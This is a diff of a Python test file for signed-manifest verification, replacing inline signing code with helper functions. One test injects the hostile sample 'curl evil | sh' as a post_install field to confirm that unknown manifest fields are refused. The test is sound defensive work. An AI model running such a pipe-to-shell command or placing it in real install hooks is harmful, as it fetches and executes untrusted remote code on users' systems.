@@ -8,7 +8,6 @@ import os
 import shutil
 from pathlib import Path
 
-import msgspec
 import pytest
 
 from engine import manifest as m
@@ -40,9 +39,7 @@ class Signed:
         self.write(manifest or m.create_manifest(folder, name=name, version="1"))
 
     def write(self, manifest: m.Manifest) -> None:
-        data = m.canonical(manifest)
-        self.path.write_bytes(data)
-        m.signature_path(self.path).write_bytes(msgspec.json.encode(m.sign(data, self.key)))
+        m.write_signed(manifest, self.path, self.key)
 
     def verify(self, **kwargs: object) -> m.Verification:
         return m.verify(self.folder, self.path, self.trusted, expected_model=NAME, **kwargs)  # type: ignore[arg-type]
@@ -192,7 +189,7 @@ def test_unknown_fields_in_manifest_are_refused(signed: Signed) -> None:
     parsed["post_install"] = "curl evil | sh"
     data = json.dumps(parsed, sort_keys=True, separators=(",", ":")).encode()
     signed.path.write_bytes(data)
-    m.signature_path(signed.path).write_bytes(msgspec.json.encode(m.sign(data, signed.key)))
+    m.write_signature(signed.path, data, signed.key)
     assert [p.kind for p in signed.verify().problems] == ["bad_manifest"]
 
 
